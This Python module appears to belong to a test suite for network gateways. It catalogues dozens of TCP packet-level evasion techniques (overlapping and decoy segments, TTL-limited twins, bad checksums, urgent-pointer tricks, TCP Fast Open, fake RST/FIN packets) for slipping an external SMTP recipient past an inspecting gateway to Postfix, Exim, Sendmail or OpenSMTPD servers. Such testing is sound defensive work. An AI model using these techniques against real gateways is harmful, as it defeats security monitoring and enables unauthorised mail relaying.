# SPDX-License-Identifier: GPL-2.0-or-later
"""attacks - ways to get an external recipient past somebody who reads along.

A row of the table is a function that yields its variants, each a function of a Try.
`works` says on which servers at least one variant of it must deliver when nobody is
in the way, so that a zero behind the gateway means something. What Linux itself
refuses (a byte marked urgent in the past, data under an old timestamp ...) is
tried all the same, with works=(). More rows: attacks_ip.py, attacks_smtp.py.
"""
import random
import time

from session import EXTERNAL, LOCAL
from wire import ACK, FIN, PSH, RST, SYN, URG

ALL = ("postfix", "exim", "sendmail", "opensmtpd")
PIPELINED = ("postfix", "exim")  # sendmail takes nothing behind DATA before its 354, opensmtpd one command at a time
ROWS = []  # (name, works, function)


def row(name, works=ALL):
    def add(function):
        ROWS.append((name, works, function))
        return function
    return add


@row("nothing but a relay attempt")
def plain(families=(False, True)):
    for v6 in families:
        def run(t, v6=v6):
            t.begin(v6=v6)
            t.put(t.rcpt())
            t.finish()
        yield run


# ---- segments ----

@row("RCPT cut in two at every byte")
def cut():
    for at in range(1, 36):
        def run(t, at=at):
            t.begin(v6=at % 2 == 1)
            line = t.rcpt()
            if at >= len(line):
                at = len(line) - 1
            t.put(line[:at])
            t.put(line[at:])
            t.finish()
        yield run


@row("segments of one byte")
def bytes_alone():
    def order_none(t, pieces):
        t.put(*pieces)

    def order(shuffle):
        def run(t, pieces):
            c, places = t.c, list(range(len(pieces)))
            shuffle(places)
            for i in places:
                c.send(pieces[i], at=i)
            t.put(*pieces)
        return run

    backwards = order(lambda x: x.reverse())
    mixed = order(random.Random(7).shuffle)
    for v6 in (False, True):
        for way in (order_none, backwards, mixed):
            def run(t, v6=v6, way=way):
                t.open(v6=v6)
                for line in (b"EHLO client.example\r\n", t.mail(), t.rcpt(), b"DATA\r\n", t.letter()):
                    way(t, [line[i:i + 1] for i in range(len(line))])
                    t.reply()
            yield run


# How two segments A and B lie to each other in a line of n bytes: Allen's relations but "equal", which is the twins' row.
def shapes(n):
    a, b, c, d = n // 5, 2 * n // 5, 3 * n // 5, n
    return {
        "before": ((0, a), (b, d)), "meets": ((0, b), (b, d)), "overlaps": ((0, c), (a, d)), "starts": ((0, b), (0, d)),
        "during": ((a, c), (0, d)), "finishes": ((b, d), (0, d)), "after": ((b, d), (0, a)), "met-by": ((b, d), (0, b)),
        "overlapped-by": ((a, d), (0, c)), "started-by": ((0, d), (0, b)), "contains": ((0, d), (a, c)),
        "finished-by": ((0, d), (b, d)),
    }


@row("two segments that overlap, 12 shapes, either copy external")
def overlap():
    for shape in shapes(10):
        for first_external in (False, True):
            for gap in (False, True):
                def run(t, shape=shape, first_external=first_external, gap=gap):
                    t.begin()
                    copies = [t.rcpt(EXTERNAL), t.rcpt(LOCAL)]
                    if not first_external:
                        copies.reverse()
                    lo = 1 if gap else 0  # behind a gap, nothing is acknowledged yet
                    for (start, stop), text in zip(shapes(len(copies[0]))[shape], copies):
                        if stop > max(start, lo):
                            t.c.send(text[max(start, lo):stop], at=max(start, lo))
                    time.sleep(0.05)
                    if gap:
                        t.c.send(copies[0][:1])
                        time.sleep(0.05)
                    t.put(copies[1 if shape == "during" else 0])
                    t.finish()
                yield run


# ---- twins: a copy that the server never takes, with other words ----

def decoys(t):
    line, n = t.rcpt(LOCAL), len(t.rcpt())
    yield 0, line
    yield 0, line[:n // 2]
    yield n // 2, line[n // 2:]
    yield 0, b"NOOP " + b"x" * (n - 7) + b"\r\n"
    yield line.index(b"@") + 1, LOCAL.encode()


def twins(name, send, works=ALL):
    @row(name, works)
    def rows():
        for which in range(5):
            for real_first in (False, True):
                def run(t, which=which, real_first=real_first):
                    t.begin(v6=which == 4 and name != "IP checksum bad")
                    at, text = list(decoys(t))[which]
                    if real_first:  # the other way round: the server is to lose the external copy
                        send(t.c, t.rcpt(), 0)
                        t.c.send(text, at=at)
                    else:
                        send(t.c, text, at)
                    time.sleep(0.03)
                    t.put(t.rcpt())
                    t.finish()
                yield run


twins("a twin whose TTL ends behind the gateway", lambda c, data, at: c.send(data, at=at, ttl=3))
twins("a twin with a bad TCP checksum", lambda c, data, at: c.send(data, at=at, bad_sum=True))
twins("a twin with an old timestamp", lambda c, data, at: c.send(data, at=at, ts=100))
twins("a twin without the ACK flag", lambda c, data, at: c.send(data, at=at, flags=PSH))
twins("a twin that acknowledges what was never sent",
      lambda c, data, at: c.send(data, at=at, ack=c.rcv + 100000))
twins("a twin with SYN set", lambda c, data, at: c.send(data, at=at - 1, flags=SYN | ACK))
twins("a twin with RST set, beyond the expected number",
      lambda c, data, at: c.send(data, at=at, flags=RST | ACK, ack=c.rcv) if at else c.send(data, at=1, flags=RST | ACK))
twins("a twin with a TCP MD5 option", lambda c, data, at: c.send(data, at=at, options=b"\x13\x12" + b"m" * 16 + b"\0\0"))
twins("a twin with a data offset beyond its end", lambda c, data, at: c.send(data, at=at, doff=15, options=b""))


@row("out-of-window twin: the decoy lies beyond the window, stored early")
def beyond_window():
    for size in (66000, 100000, 200000):
        def run(t, size=size):
            t.begin()
            t.say(t.rcpt(LOCAL))
            t.say(b"DATA\r\n")
            text = b"Subject: x\r\n\r\n" + b"0123456789abcdef0123456789abcd\r\n" * (size // 32) + b".\r\n"
            t.c.send(t.rcpt(LOCAL), at=len(text) + len(t.mail()))
            t.stream(text, 1400)
            t.reply()
            t.say(t.mail())
            t.put(t.rcpt())
            t.finish()
        yield run


@row("out-of-window twin: the decoy lies before the window")
def before_window():
    for back in (1, 10, 70000):
        def run(t, back=back):
            t.begin()
            line = t.rcpt()
            t.c.send(b"x" * min(back, 1000) + t.rcpt(LOCAL), at=-back)
            t.put(line)
            t.finish()
        yield run


# ---- repeated with other words ----

@row("repeated with other words, before the ACK")
def repeat_before():
    for first in (EXTERNAL, LOCAL):
        for cut_at in (1, 12, 20):
            def run(t, first=first, cut_at=cut_at):
                other = LOCAL if first == EXTERNAL else EXTERNAL
                t.begin()
                t.c.send(t.rcpt(first)[cut_at:], at=cut_at)   # not acknowledged: behind a gap
                time.sleep(0.03)
                t.c.send(t.rcpt(other)[cut_at:], at=cut_at)
                t.put(t.rcpt(first)[:cut_at], t.rcpt(first)[cut_at:])
                t.finish()
            yield run


@row("repeated with other words, after the ACK")
def repeat_after():
    for cut_at in (20, 26, 31):
        for last in (LOCAL, EXTERNAL):
            def run(t, cut_at=cut_at, last=last):
                t.begin()
                first = EXTERNAL if last == LOCAL else LOCAL
                t.put(t.rcpt(first)[:cut_at])
                whole = t.rcpt(last)
                t.c.send(whole, at=-cut_at)  # the server has the beginning, and takes the rest only
                t.put(whole[cut_at:])
                t.finish()
            yield run


# ---- gaps ----

@row("segments beyond a gap, then the gap")
def gaps():
    def hole_in_line(at, size):
        def run(t):
            t.begin()
            line = t.rcpt()
            t.c.send(line[at + size:], at=at + size)
            if at:
                t.c.send(line[:at])
            time.sleep(0.03)
            t.put(line)
            t.finish()
        return run

    for at in (0, 8, 20, 31):
        for size in (1, 5):
            yield hole_in_line(at, size)

    def everything(t):  # all of it, but the first byte
        t.open()
        text = b"EHLO client.example\r\n" + t.mail() + t.rcpt() + b"DATA\r\n"
        t.c.send(text[1:], at=1)
        time.sleep(0.05)
        t.put(text[:1], text[1:])
        t.reply(4)
        t.say(t.letter())

    def barrier(t):  # RCPT and DATA are there before DATA's own place is
        t.begin()
        text = t.rcpt(LOCAL) + b"DATA\r\n" + t.letter() + t.mail() + t.rcpt() + b"DATA\r\n" + t.letter()
        n = len(t.rcpt())
        t.c.send(text[n + 6:], at=n + 6)
        t.c.send(text[:n])
        time.sleep(0.05)
        t.c.send(text[n:n + 6], at=n)
        time.sleep(0.2)
        t.put(text)
        t.reply(7, seconds=2)

    def refused(t):  # what looks like a body isn't one
        t.begin()
        text = b"DATA\r\n" + t.rcpt() + b"DATA\r\n"
        t.c.send(text[6:], at=6)
        time.sleep(0.03)
        t.put(text)
        t.reply(3)
        t.say(t.letter())

    yield everything
    yield barrier
    yield refused


# ---- superpackets ----

@row("a superpacket that is cut short, behind bytes that never arrived", works=())
def super_clipped():
    """What a cut superpacket is filled up with would stand in for the lost bytes: without it, it is too short to be sent."""
    def behind(v6, lines, tail):
        def run(t):
            t.begin(v6=v6)
            t.say(t.rcpt(LOCAL))
            hidden = b"\r\nRSET\r\n" + t.mail() + t.rcpt() + b"DATA\r\n" + t.letter()
            lost = lines(len(hidden))
            t.c.send(lost, ttl=3)
            time.sleep(0.03)
            t.c.send_super(hidden + b"EHLO client.example\r\n" + b"NOOP\r\n" * tail, at=len(lost))
            t.reply(6, seconds=1)
            t.put(lost)
            t.put(hidden)
            t.reply(2, seconds=1)
        return run

    for v6 in (False, True):
        for tail in (300, 3000):
            yield behind(v6, lambda n: b"BDAT %d LAST\r\n" % (n + 100) + b"x" * 100, tail)
            yield behind(v6, lambda n: b"BDAT %d\r\n" % (n + 100) + b"x" * 100, tail)


# ---- urgent ----

@row("urgent byte in the local domain")
def urgent():
    # Without SO_OOBINLINE the urgent byte is taken out of the stream: l|ocal.example is ocal.example.
    def in_line(place, split=False):
        def run(t):
            t.begin()
            line = t.rcpt(LOCAL)
            at = line.index(b"@") + place
            if split:
                t.c.send(line[at:at + 1], at=at, flags=ACK | URG | PSH, urgent=1)
                t.c.send(line[:at])
                t.c.send(line[at + 1:], at=at + 1)
                time.sleep(0.1)
            else:
                t.c.send(line, flags=ACK | URG | PSH, urgent=at + 1)
            t.put(line)
            t.finish()
        return run

    for place in (1, 6, 13):
        yield in_line(place)
    yield in_line(1, split=True)


@row("urgent pointer in a segment without data")
def urgent_bare():
    for flags in (ACK | URG, ACK | URG | PSH):
        for place in (1, 6, 13):
            def run(t, flags=flags, place=place):
                t.begin()
                line = t.rcpt(LOCAL)
                t.c.send(flags=flags, urgent=line.index(b"@") + place + 1)
                time.sleep(0.05)
                t.put(line)
                t.finish()
            yield run


@row("urgent pointer 0, and into the next segment")
def urgent_odd():
    def zero(t):  # read as the first byte by some
        t.begin()
        line = t.rcpt(LOCAL)
        at = line.index(b"@") + 1
        t.put(line[:at])
        t.c.send(line[at:], flags=ACK | URG | PSH, urgent=0)
        t.put(line[at:])
        t.finish()

    def ahead(more):
        def run(t):
            t.begin()
            line = t.rcpt(LOCAL)
            at = line.index(b"@") + 1
            t.c.send(line[:at - more], flags=ACK | URG | PSH, urgent=at + 1)
            t.put(line[:at - more])
            t.put(line[at - more:])
            t.finish()
        return run
    yield zero
    yield ahead(0)
    yield ahead(10)

    def early(t):  # in MAIL, for a byte of RCPT
        t.open()
        t.say(b"EHLO client.example\r\n")
        t.c.send(t.mail(), flags=ACK | URG | PSH, urgent=len(t.mail()) + t.rcpt(LOCAL).index(b"@") + 2)
        t.say(t.mail())
        t.put(t.rcpt(LOCAL))
        t.finish()
    yield early


# ---- the connection's beginning and end ----

@row("data in the SYN", PIPELINED)
def syn_data():
    def run_with(first, v6, fin=0):
        def run(t):
            t.open(v6=v6, connect=False)
            lines = b"EHLO client.example\r\n" + t.mail() + t.rcpt(first)
            t.c.connect(lines, flags=SYN | fin)
            t.reply()
            if t.c.una == (t.c.isn + 1) & 0xFFFFFFFF:
                t.put(b"EHLO client.example\r\n" + t.mail() + t.rcpt())
            t.reply(2)
            t.finish()
        return run
    for first in (LOCAL, EXTERNAL):
        for v6 in (False, True):
            yield run_with(first, v6)


@row("TCP Fast Open: data in the SYN that the server takes", PIPELINED)
def fast_open():
    """The server gives out cookies, and takes what comes with one (RFC 7413)."""
    hello = b"EHLO client.example\r\n"

    def cookie(t, v6):
        t.open(v6=v6, sport=19000, connect=False)
        t.c.connect(more_options=b"\42\2\1\1")
        options = t.c.synack_options
        t.c.close()
        at = options.find(b"\42\12")
        return options[at:at + 10] + b"\1\1" if at >= 0 else b""

    def begins(v6, before):
        def run(t):
            tfo = cookie(t, v6)
            t.open(v6=v6, connect=False)
            first = before(t, tfo)
            t.c.connect(first, more_options=tfo)
            text = hello + t.mail() + t.rcpt()
            t.put(text[(t.c.una - t.c.isn - 1) & 0xFFFFFFFF:] or b"NOOP\r\n")
            t.reply(3)
            t.finish()
        return run

    def other_syn(wrong_cookie=b"", **how):
        def send(t, tfo):
            options = b"\2\4\5\xb4" + (wrong_cookie or tfo)
            t.c.send(hello + t.mail() + t.rcpt(LOCAL), seq=t.c.isn, ack=0, flags=SYN, options=options, **how)
            time.sleep(0.03)
            return hello + t.mail() + t.rcpt()
        return send

    def other_number_behind(v6, more):
        """A SYN whose answer could be the one to the first one's data."""
        def run(t):
            tfo = cookie(t, v6)
            t.open(v6=v6, connect=False)
            text = t.mail() + t.rcpt()
            first = text[:-10]
            t.c.syn_len = len(first)
            for _ in range(3):
                t.c.send(first, seq=t.c.isn, ack=0, flags=SYN, options=b"\2\4\5\xb4" + tfo)
                t.c.send(seq=t.c.isn + len(first) + more, ack=0, flags=SYN, ttl=3)
                if t.c.wait(lambda: t.c.synack, t.patience(0.3)):
                    break
            t.c.send()
            t.put(text[(t.c.una - t.c.isn - 1) & 0xFFFFFFFF:])
            t.reply(2)
            t.finish()
        return run

    for v6 in (False, True):
        yield other_number_behind(v6, 0)
        yield other_number_behind(v6, -20)
        yield begins(v6, lambda t, tfo: hello + t.mail() + t.rcpt())
        yield begins(v6, lambda t, tfo: hello)
        yield begins(v6, lambda t, tfo: hello + t.mail() + t.rcpt()[:20])
        yield begins(v6, other_syn(ttl=3))
        yield begins(v6, other_syn(bad_sum=True))
        yield begins(v6, other_syn(wrong_cookie=b"\42\12badbadba\1\1"))  # its SYN counts, its data doesn't
        yield begins(v6, other_syn())


@row("SYN twins and simultaneous open")
def syn_twins():
    def goes_on(t):
        if t.c.connect():
            t.reply()
        t.say(b"EHLO client.example\r\n")
        t.say(t.mail())
        t.put(t.rcpt())
        t.finish()

    def opens(v6, before):
        def run(t):
            t.open(v6=v6, connect=False)
            before(t)
            time.sleep(0.03)
            goes_on(t)
        return run

    def other_isn_first(t):
        t.c.send(seq=t.c.isn - 5000, ack=0, flags=SYN, ttl=3)

    def other_isn_behind(t):
        t.c.send(seq=t.c.isn, ack=0, flags=SYN)
        t.c.send(seq=t.c.isn + 70, ack=0, flags=SYN, ttl=3)

    def with_data(t):  # at the place where the dialogue will be
        t.c.send(b"EHLO client.example\r\n" + t.mail() + t.rcpt(LOCAL), seq=t.c.isn, ack=0, flags=SYN, ttl=3)

    def crossing(t):  # as if the server had called us at the same time
        t.c.spoof(flags=SYN)
        t.c.send(seq=t.c.isn, ack=t.c.rcv + 1, flags=SYN | ACK, ttl=3)

    def crossing_behind(t):
        t.c.send(seq=t.c.isn, ack=0, flags=SYN, ttl=3)
        t.c.spoof(flags=SYN, at=9000)
        t.c.spoof(flags=SYN | ACK, at=9000, ack=1)

    def ack_first(t):  # of a connection that nobody opened
        t.c.send(t.rcpt(LOCAL), seq=t.c.isn + 1, ttl=3)

    for before in (other_isn_first, other_isn_behind, with_data, crossing, crossing_behind, ack_first):
        for v6 in (False, True):
            yield opens(v6, before)

    def syn_ack_third(ttl):
        """A SYN|ACK where the ACK of the handshake belongs, as in a simultaneous open."""
        def run(t):
            t.begin()
            t.c.send(seq=t.c.isn, ack=t.c.rcv, flags=SYN | ACK, ttl=ttl)
            t.c.send(t.rcpt(LOCAL), at=-1, flags=SYN | ACK, ttl=ttl)
            time.sleep(0.03)
            t.put(t.rcpt())
            t.finish()
        return run
    yield syn_ack_third(3)
    yield syn_ack_third(64)

    def answer_repeated(v6, pretend_end):
        """The server repeats its SYN|ACK, which comes when bytes are with it beyond a gap."""
        def run(t):
            t.open(v6=v6, connect=False)
            c = t.c
            syn = {"seq": c.isn, "ack": 0, "flags": SYN, "options": b"\2\4\5\xb4"}
            for _ in range(12):
                c.send(**syn)
                if c.wait(lambda: c.synack, 0.5):
                    break
            if pretend_end:
                c.send(flags=RST, at=1 << 29)
            text = b"EHLO client.example\r\n" + t.mail() + t.rcpt() + b"DATA\r\n" + t.letter() + b"QUIT\r\n"
            c.send(**syn)
            c.send(text[1:], at=1, options=b"")
            time.sleep(0.05)
            c.send(text[:1], options=b"")
            t.put(text, options=b"")
            t.reply(7, seconds=2)
        return run
    for v6 in (False, True):
        yield answer_repeated(v6, False)
        yield answer_repeated(v6, True)


@row("RST fakes, then on")
def rst_fakes():
    def fake(**how):
        def run(t):
            t.begin()
            for flags in (RST, RST | ACK):
                t.c.send(flags=flags, **how)
            time.sleep(0.05)
            t.put(t.rcpt())
            t.finish()
        return run
    yield fake(bad_sum=True)
    yield fake(ttl=3)
    yield fake(at=1)         # in the window but not exact: the server only asks back (RFC 5961)
    yield fake(at=-1)
    yield fake(at=1 << 20)
    yield fake(at=1 << 31)
    yield fake(bad_sum=True, data=b"QUIT\r\n")


@row("FIN fakes, then on")
def fin_fakes():
    def fake(**how):
        def run(t):
            t.begin()
            t.c.send(flags=FIN | ACK, **how)
            time.sleep(0.05)
            t.put(t.rcpt())
            t.finish()
        return run
    yield fake(bad_sum=True)
    yield fake(ttl=3)
    yield fake(ts=100)
    yield fake(at=-3)
    yield fake(at=1 << 20)
    yield fake(at=5, ttl=3)
    yield fake(ttl=3, data=b"QUIT\r\n")

    def behind_quit(*fakes):
        """QUIT never arrives at the server; from then on what has no payload passes by the queue."""
        def run(t):
            t.begin()
            t.c.send(b"QUIT\r\n", ttl=3)
            time.sleep(0.05)
            for how in fakes:
                t.c.send(**how)
            time.sleep(0.05)
            t.put(t.rcpt())
            t.finish()
        return run
    yield behind_quit({"flags": FIN | ACK, "at": 6})
    yield behind_quit({"flags": FIN | ACK, "at": 6, "ttl": 3}, {"flags": RST, "at": 6, "ttl": 3}, {"flags": ACK, "at": 6})
    yield behind_quit({"flags": RST | ACK, "bad_sum": True}, {"flags": FIN | ACK, "at": -3})


@row("the same port again, with a new ISN")
def port_reuse():
    def first_mail(t):
        t.begin()
        t.say(t.rcpt(LOCAL))
        t.say(b"DATA\r\n")
        t.say(b"Subject: first\r\n\r\nfirst\r\n.\r\n")

    def again(t, isn=None):
        t.open(sport=t.c.sport, isn=isn)
        t.say(b"EHLO client.example\r\n")
        t.say(t.mail())
        t.put(t.rcpt())
        t.finish()

    def after_quit(t):
        first_mail(t)
        t.put(b"QUIT\r\n")
        t.reply()
        t.c.send(flags=FIN | ACK)
        t.c.skip(1)
        time.sleep(0.1)
        t.c.wire.remove(t.c)
        again(t, t.c.nxt + 100000 & 0xFFFFFFFF)

    def after_rst(t):
        first_mail(t)
        t.c.send(flags=RST | ACK)
        t.c.wire.remove(t.c)
        again(t, t.c.nxt + 1000 & 0xFFFFFFFF)

    def into_the_old_one(t):
        """A SYN inside an open connection, answered by a challenge ACK, and the old one goes on."""
        t.begin()
        t.c.send(seq=t.c.nxt + 5000, ack=0, flags=SYN)
        time.sleep(0.05)
        t.put(t.rcpt())
        t.finish()

    def same_isn(t):
        first_mail(t)
        isn = t.c.isn
        t.c.send(flags=RST | ACK)
        t.c.wire.remove(t.c)
        again(t, isn)

    def old_bytes(t):
        """The old connection's kept bytes lie where the new one's RCPT will be."""
        t.begin()
        head = b"EHLO client.example\r\n" + t.mail()
        t.put(t.rcpt(LOCAL))
        t.reply()
        t.c.send(flags=RST | ACK)
        t.c.wire.remove(t.c)
        again(t, t.c.nxt - len(t.rcpt()) - len(head) - 1 & 0xFFFFFFFF)

    def fake_rst_then_syn(t):
        t.begin()
        t.c.send(flags=RST, ttl=3)
        t.c.send(seq=t.c.nxt + 70000, ack=0, flags=SYN, ttl=3)
        t.c.send(t.rcpt(LOCAL), seq=t.c.nxt + 70001, ttl=3)
        time.sleep(0.05)
        t.put(t.rcpt())
        t.finish()

    yield from (after_quit, after_rst, into_the_old_one, same_isn, old_bytes, fake_rst_then_syn)


@row("sequence numbers wrap inside RCPT")
def wrap():
    for base in (1 << 32, 1 << 31):
        for place in (0, 1, 9, 16, 31, 32):
            def run(t, base=base, place=place):
                before = len(b"EHLO client.example\r\n" + t.mail())
                t.begin(isn=base - 1 - before - place & 0xFFFFFFFF)
                line = t.rcpt()
                t.put(line[:9], line[9:20], line[20:])
                t.finish()
            yield run


@row("keep-alives, probes and zero windows in between")
def probes():
    def garbage(t):
        t.begin()
        t.c.send(b"x", at=-1)
        t.put(t.rcpt()[:8])
        t.c.send(b"\n", at=-1)
        t.put(t.rcpt()[8:])
        t.finish()

    def window_shut(t):  # the server can't answer, so nobody knows what it thinks
        t.begin()
        t.c.window = 0
        t.c.mute = True
        t.c.send()
        t.put(t.rcpt(LOCAL), b"DATA\r\n", t.rcpt(), b"DATA\r\n")
        t.c.mute = False
        t.c.window = 65535
        t.c.send()
        t.reply(3, seconds=3)
        t.put(t.rcpt())
        t.finish()

    def future_window(t):
        t.begin()
        t.c.window = 1
        t.put(t.rcpt())
        t.c.window = 65535
        t.finish()

    yield from (garbage, window_shut, future_window)


@row("half-closed: FIN right behind the last command", PIPELINED)
def half_closed():
    for order in (False, True):
        def run(t, order=order):
            t.begin()
            text = t.rcpt() + b"DATA\r\n" + t.letter() + b"QUIT\r\n"
            if order:
                t.c.send(text[20:], at=20, flags=FIN | ACK | PSH)
                t.c.send(text[:20])
            t.put(text)
            t.c.send(flags=FIN | ACK)
            t.reply(4, seconds=3)
        yield run


@row("the attacker ignores resets", PIPELINED)
def ignores():
    def shouts(pause):
        def run(t):
            t.begin()
            text = t.rcpt() + b"DATA\r\n" + t.letter() + b"QUIT\r\n"
            for _ in range(20):
                t.c.send(text)
                t.c.send(t.rcpt())
                t.c.send(b"DATA\r\n", at=len(t.rcpt()))
                t.c.send(t.letter(), at=len(t.rcpt()) + 6)
                time.sleep(pause)
            t.put(text)
            t.reply(3, seconds=2)
        return run
    yield shouts(0)
    yield shouts(0.02)
    yield shouts(0.2)

    def beyond(t):  # whatever it acknowledges
        t.begin()
        t.put(t.rcpt())
        for at in (0, 1, 100, 1000):
            for text in (b"DATA\r\n", t.letter()):
                t.c.send(text, at=at)
        t.finish()
    yield beyond
